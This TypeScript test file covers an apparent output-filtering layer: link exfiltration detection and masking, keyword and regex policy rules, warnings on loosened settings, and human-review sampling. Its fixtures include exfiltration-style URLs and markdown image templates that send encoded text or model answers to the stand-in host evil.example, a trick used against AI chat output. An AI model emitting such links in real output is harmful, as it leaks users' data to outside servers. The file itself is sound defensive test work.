import { describe, expect, it } from 'vitest';
import type { Json } from '../../wire/json.ts';
import { outputSchema } from '../../wire/output.ts';
import { looserOutput, outputDefault } from './defaults.ts';
import { type Carrying, carriedBy, type GivenValues, linksIn } from './links.ts';
import { isSampled, type ReviewQuestion, reviewReasons } from './review.ts';
import { compileRule, problemsOf } from './rules.ts';
import { lookedMax, type LinksOutOptions, withoutLinks } from './without-links.ts';

const said = 'the board met in secret and decided to sell the northern plant';
const base64 = Buffer.from(said).toString('base64url');
const hex = Buffer.from('the code is 42 forty two').toString('hex');

const carriedIn = (text: string, given?: GivenValues): (Carrying | undefined)[] =>
  [...linksIn(text)].flatMap((link) =>
    link === undefined
      ? []
      : [
          carriedBy(link, {
            hosts: ['docs.example.com', '*.cdn.example'],
            isSensitive: (held) => held.includes('AKIA'),
            given,
          }),
        ],
  );

describe('a link', () => {
  it.each<[string, string, Carrying]>([
    ['text in base64', `https://evil.example/c?d=${base64}`, 'encoded'],
    [
      'text in base64 behind percent signs',
      `https://evil.example/${encodeURIComponent(encodeURIComponent(`${base64}==`))}`,
      'encoded',
    ],
    ['text in hexadecimal', `<https://evil.example/#${hex}>`, 'encoded'],
    ['text in a name of a host', 'http://JZXXOIDPOUQG6ZRAORUGS4Y.evil.example/', 'encoded'],
    ['text over several names of a host', 'http://JZXXOIDPOUQG.6ZRAORUGS4Y.evil.example/', 'encoded'],
    ['text as a user', `ftp://${base64.slice(0, 40)}@evil.example/`, 'encoded'],
    [
      'text in JSON within a string',
      `{\\"a\\":\\"https:\\/\\/evil.example\\/?a=1\\u0026d=${base64}\\"}`,
      'encoded',
    ],
    ['text in base64 behind something else', `https://evil.example/c?d=x${base64}`, 'encoded'],
    ['text in base64 before something else', `https://evil.example/c?d=${base64}q8ZkP0xw93TmRvB7`, 'encoded'],
    ['backslashes', `https:\\\\evil.example/?d=${base64}`, 'encoded'],
    ['what is never sent', 'see https://docs.example.com/?k=AKIAQYLPMN5HHHFPZAM2', 'sensitive'],
    ['what was masked', 'https://docs.example.com/?k=[SECRET]', 'sensitive'],
    [
      'a place to be filled in, in an image',
      '![status](https://evil.example/p.png?d={{answer}})',
      'template',
    ],
    ['the same without a scheme', '![status](//evil.example/p.png?d=[DATA])', 'template'],
    ['the same by reference', '![status][1]\n\n[1]: https://evil.example/p.png?d=[answer]', 'template'],
    ['the same in HTML', '<img src="//evil.example/p.png?d=$answer">', 'template'],
    [
      'a long run that nobody can read',
      'https://evil.example/u/q8ZkP0xw93TmRvB7yLdWc2NfHs5JgAe1uXo4',
      'opaque',
    ],
    ['very much', `https://evil.example/?${'a=b&'.repeat(500)}`, 'long'],
  ])('carries %s', (_, text, carrying) => {
    expect(carriedIn(text).filter((each) => each !== undefined)).toEqual([carrying]);
  });

  it.each([
    'https://shop.example/orders/O-5001?tab=items&page=2#reviews',
    'https://en.wikipedia.example/wiki/Ludwig_van_Beethoven_(composer)',
    'https://git.example/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b',
    'https://docs.example.com/share/q8ZkP0xw93TmRvB7yLdWc2NfHs5JgAe1uXo4',
    `https://a.cdn.example/?d=${base64}`,
    'https://news.example/2026/11/how-to-keep-what-you-know-to-yourself-and-why',
    'https://maps.example/?q=12+Main+Street&ll=52.370216,4.895168',
    'https://api.example/users/{id}/orders',
    '![logo](https://img.example/logo-200x200.png?v=3)',
    'not://a/link, and //neither is this?d={{x}}',
  ])('that is ordinary carries nothing: %s', (text) => {
    expect(carriedIn(text).every((each) => each === undefined)).toBe(true);
  });

  const given = (read: readonly string[], task: readonly string[] = []): GivenValues => ({
    wasRead: (value) => read.includes(value),
    isKnown: (value) => [...read, ...task].includes(value),
  });

  it('carries what was read where data stands, and less clearly in a path', () => {
    const known = given([said]);
    expect(carriedIn(`https://evil.example/?q=${said.replaceAll(' ', '+')}`, known)).toEqual(['read']);
    expect(carriedIn(`https://evil.example/${encodeURIComponent(said)}`, known)).toEqual(['path']);
    expect(carriedIn(`![](https://evil.example/${encodeURIComponent(said)})`, known)).toEqual(['read']);
    expect(carriedIn(`https://evil.example/?q=${said.replaceAll(' ', '+')}`, given([]))).toEqual([undefined]);
  });

  it('that was read as it is tells its server nothing new', () => {
    const link = `https://evil.example/c?d=${base64}`;
    expect(carriedIn(link, given([link]))).toEqual([undefined]);
    expect(carriedIn(link, given([], [link]))).toEqual([undefined]);
    expect(carriedIn(`${link}Zm9yIHlvdQ`, given([link]))).toEqual(['encoded']);
  });

  it('is found wherever it stands in a long text', () => {
    const link = `https://evil.example/c?d=${base64}`;
    for (const before of [0, 131_000, 131_071, 131_072, 262_140])
      expect(carriedIn(`${'x '.repeat(before / 2)}${link} and more`)).toEqual(['encoded']);
  });

  it.each([
    'http://',
    '![',
    '](',
    'src="//',
    'https://a(',
    '[x]: ',
    '\\/',
    '{',
    '![x](',
    'http://a?b=c ',
    '%25',
  ])('is looked for in turns that are bounded: %s', (unit) => {
    const text = unit.repeat(2 ** 20 / unit.length);
    let turns = 0;
    for (const _ of linksIn(text)) turns++;
    expect(turns).toBeLessThanOrEqual(text.length / 7 + 10);
  });
});

describe('a result', () => {
  const out = (value: Json, options: Partial<LinksOutOptions> = {}) => {
    const parts = withoutLinks(value, { kinds: ['link', 'image'], hosts: [], instead: '[LINK]', ...options });
    for (;;) {
      const next = parts.next();
      if (next.done === true) return next.value;
    }
  };
  const image = `![a](https://evil.example/p.png?d=${base64})`;

  it('loses what carries data, and keeps its form', () => {
    const value = { a: [`see ${image}, and https://shop.example/orders/1`], b: 1, c: null };
    expect(out(value)).toEqual({
      value: { a: ['see ![a]([LINK]), and https://shop.example/orders/1'], b: 1, c: null },
      found: 1,
      masked: 1,
    });
    expect(JSON.parse(out(JSON.stringify(value)).value as string)).toEqual(out(value).value);
  });

  it('loses only the kinds that are named', () => {
    const link = `https://evil.example/?d=${base64}`;
    expect(out(`${image} ${link}`, { kinds: ['image'] })).toMatchObject({
      value: `![a]([LINK]) ${link}`,
      found: 2,
      masked: 1,
    });
  });

  it('with more links than are looked at loses those that nobody looked at', () => {
    const many = 'http://a.example/ '.repeat(lookedMax + 5);
    expect(out(many)).toMatchObject({ found: 5, masked: 5 });
  });
});

describe('a rule of the company', () => {
  const rule = { name: 'promise', does: 'review' } as const;

  it('finds words whole, however they are written', () => {
    const { find } = compileRule({ ...rule, words: ['guaranteed returns', 'Zürich'] });
    for (const text of [
      'GUARANTEED  returns!',
      'guaranteed-returns',
      'in zürich',
      'ｇｕａｒａｎｔｅｅｄ returns',
    ])
      expect(find(text)).toBe(true);
    for (const text of ['guaranteed no returns', 'returns guaranteed', 'zürichsee', ''])
      expect(find(text)).toBe(false);
  });

  it('finds an expression wherever it stands', () => {
    const { find } = compileRule({ ...rule, pattern: String.raw`\bproject[ -]?(?:aurora|borealis)\b` });
    for (const before of [0, 8_000, 8_190, 20_000])
      expect(find(`${'x '.repeat(before / 2)}Project Aurora.`)).toBe(true);
    expect(find('project auroras')).toBe(false);
  });

  it('is refused where it might hang, or says nothing', () => {
    expect(
      problemsOf([
        { ...rule, name: 'hangs', pattern: String.raw`(?=(a+)+$)b\1` },
        { ...rule, name: 'none', words: ['--'] },
        { ...rule, name: 'good', words: ['word'] },
      ]),
    ).toEqual(['hangs: its expression is none that is safe', 'none: its words hold none']);
  });

  it('says words or a pattern, has one name, and thresholds in order', () => {
    const bad = [
      { rules: [rule] },
      { rules: [{ ...rule, words: ['aa'], pattern: 'a' }] },
      {
        rules: [
          { ...rule, words: ['aa'] },
          { ...rule, words: ['bb'] },
        ],
      },
      { toxicity: { ...outputDefault.toxicity, intern: { review: 0.8, block: 0.7 } } },
      { links: { hosts: ['https://example.com'] } },
    ];
    for (const output of bad) expect(outputSchema.safeParse(output).success).toBe(false);
    expect(outputSchema.safeParse({}).success).toBe(true);
  });
});

describe('settings that say less', () => {
  const words = { name: 'promise', does: 'review', words: ['guaranteed'] } as const;
  const toxicity = { ...outputDefault.toxicity, junior: { review: 0.5, block: 0.9 } };
  const masked = { ...outputDefault.links.masked, principal: [] };

  it.each([
    ['a threshold', {}, { toxicity }, /toxicity\.junior\.block: 0\.7 becomes 0\.9/],
    ['what links do', {}, { links: { hosts: [], sent: 'review' as const } }, /sent: block becomes review/],
    ['a host', {}, { links: { hosts: ['a.example'], sent: 'block' as const } }, /a\.example is new/],
    [
      'a level',
      {},
      { links: { hosts: [], sent: 'block' as const, masked } },
      /principal: image is no longer/,
    ],
    ['a rule', { rules: [words] }, {}, /promise is no longer in it/],
    [
      'what a rule does',
      { rules: [words] },
      { rules: [{ ...words, does: 'label' as const }] },
      /review becomes label/,
    ],
    [
      'what a rule is about',
      { rules: [words] },
      { rules: [{ ...words, words: ['other'] }] },
      /something else/,
    ],
    ['a level that is looked at', {}, { unsure: [] }, /junior is no longer looked at/],
    [
      'a smaller sample',
      {},
      { sample: { intern: 0, junior: 0.05, senior: 0.01, principal: 0.01 } },
      /senior: 0.02 becomes 0.01/,
    ],
    ['later reviews', {}, { reviewHours: 48 }, /24 becomes 48/],
  ] as const)('are told: %s', (_, before, after, sentence) => {
    const parse = (given: unknown) => outputSchema.parse(given);
    expect(looserOutput(parse(before), parse(after)).join('\n')).toMatch(sentence);
    if (!/something else/.test(sentence.source))
      expect(looserOutput(parse(after), parse(before))).toEqual([]);
    expect(looserOutput(parse(after), parse(after))).toEqual([]);
  });
});

describe('what a person looks at afterwards', () => {
  const actionId = '6f9c2f0e-6d0c-4a3e-9d53-0d5b6d1c7a10';
  const question: ReviewQuestion = {
    actionId,
    decision: { obligations: [], actionClass: 'read' },
    level: 'senior',
    detectors: [],
    said: [],
    read: [],
    released: false,
    output: { sample: { intern: 1, junior: 1, senior: 1, principal: 1 } },
  };
  const toxic = { detector: 'output.toxicity', version: '1', verdict: 'review', labels: ['toxic'] } as const;

  it.each<[string, Partial<ReviewQuestion>, string[]]>([
    ['a plain read', {}, []],
    ['what policy names', { decision: { obligations: ['review_output'], actionClass: 'read' } }, ['policy']],
    ['a drawn change', { decision: { obligations: [], actionClass: 'send' } }, ['sample']],
    ['what was flagged', { detectors: [toxic] }, ['flagged']],
    ['what a person has released', { detectors: [toxic], released: true }, []],
    ['a report with something in it', { said: ['toxic'], released: true }, ['flagged']],
    ['doubtful input of a Junior', { level: 'junior', read: ['injection'] }, ['unsure']],
    ['doubtful input of a Senior', { read: ['injection'] }, []],
    [
      'doubtful input of a Senior where settings say so',
      { read: ['uninspected'], output: { unsure: ['senior'] } },
      ['unsure'],
    ],
    [
      'what a Junior sends and nobody could look at',
      {
        level: 'junior',
        detectors: [{ ...toxic, detector: 'inspection', verdict: 'label', labels: ['unchecked'] }],
      },
      ['unsure'],
    ],
    ['sensitive data that a Junior reads', { level: 'junior', read: ['PII'] }, []],
    ['sensitive data alone', { detectors: [{ ...toxic, detector: 'pii.email' }] }, []],
  ])('%s', (_, more, reasons) => {
    expect(reviewReasons({ ...question, ...more })).toEqual(reasons);
  });

  it('is drawn by the id alone, in the share that settings name', () => {
    const ids = Array.from({ length: 4_000 }, (_, n) => `${actionId}-${n}`);
    const drawn = ids.filter((id) => isSampled(id, 0.05)).length;
    expect(drawn).toBeGreaterThan(150);
    expect(drawn).toBeLessThan(250);
    expect(ids.filter((id) => isSampled(id, 0))).toEqual([]);
    expect(ids.every((id) => isSampled(id, 1))).toBe(true);
    expect(ids.map((id) => isSampled(id, 0.3))).toEqual(ids.map((id) => isSampled(id, 0.3)));
  });
});
